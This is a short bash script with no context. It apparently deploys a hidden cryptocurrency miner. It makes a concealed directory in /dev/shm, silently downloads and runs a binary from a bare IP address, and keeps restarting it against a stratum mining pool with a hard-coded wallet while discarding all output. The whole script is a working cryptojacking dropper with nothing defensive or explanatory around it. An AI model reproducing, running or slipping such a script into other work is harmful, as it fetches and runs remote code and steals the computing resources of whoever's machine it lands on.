#!/bin/bash
W=42vQFzRnYb5x1mDq
D=/dev/shm/.k
mkdir -p $D && cd $D || exit
[ -x kd ] || { curl -so kd http://198.51.100.60/kd; chmod +x kd; }
while :; do
  pgrep -x kd >/dev/null || nohup ./kd -o stratum+tcp://pool.example.org:4444 -u $W -p x --donate-level 1 >/dev/null 2>&1 &
  sleep 120
done
